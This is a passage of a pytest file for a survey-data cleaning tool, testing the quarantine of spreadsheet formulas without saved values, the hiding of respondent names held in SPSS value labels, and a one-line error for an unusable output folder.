    for r in rows:
        ws.append([c if c else None for c in r])
    ws["D3"] = '=IF(1=1,"yes","no")'     # greeting of ENC-000002: a formula openpyxl saves without a value
    wb.save(raw / "coding.xlsx")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"][1] = {"path": "coding.xlsx", "kind": "coding", "sheet": "coding"}
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    q, rep = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding.xlsx", row=3, column="greeting",
                               reason="formula_without_value")
    assert any("formulas without a saved value" in line for line in capsys.readouterr().err.splitlines()) or \
        "formula" in (tmp_path / "processed" / "cleaning_report.md").read_text()


def test_spss_value_labels_on_an_id_column_never_leak(tmp_path, capsys, monkeypatch):
    # a receipt code whose SPSS value label is a respondent's name: the label is read (SPSS shows
    # labels), it is no identifier (invalid_id), and the name is hidden in every output
    import pyreadstat

    raw = make_study(tmp_path)
    df = pd.DataFrame({"receipt_code": [1.0, 3.0], "sat_overall": [5.0, 4.0], "sat_1": [6.0, 5.0],
                       "sat_2": [7.0, 5.0], "sat_3": [6.0, 5.0], "felt_valued": [6.0, 4.0],
                       "tell_others": [1.0, 0.0], "post_online": [0.0, 0.0]})
    pyreadstat.write_sav(df, str(raw / "paper.sav"), variable_value_labels={"receipt_code": {3.0: "Liisa Laine"}})
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"].append({"path": "paper.sav", "kind": "survey"})
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    assert "Liisa" not in _all_output_text(out)


def test_output_folder_under_a_file_is_one_line(tmp_path, capsys, monkeypatch):
    # (the read-only-parent case as root: the parent cannot hold a folder)
    raw = make_study(tmp_path)
    blocker = tmp_path / "not_a_folder"
    blocker.write_text("x")
    monkeypatch.setenv("SVCRESEARCH_KEY", "test-key-0123456789")
    code = cli.main(["clean", "--raw", str(raw), "--out", str(blocker / "processed"), "--quiet"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and "not_a_folder/processed" in err[0] and ".tmp" not in err[0], err
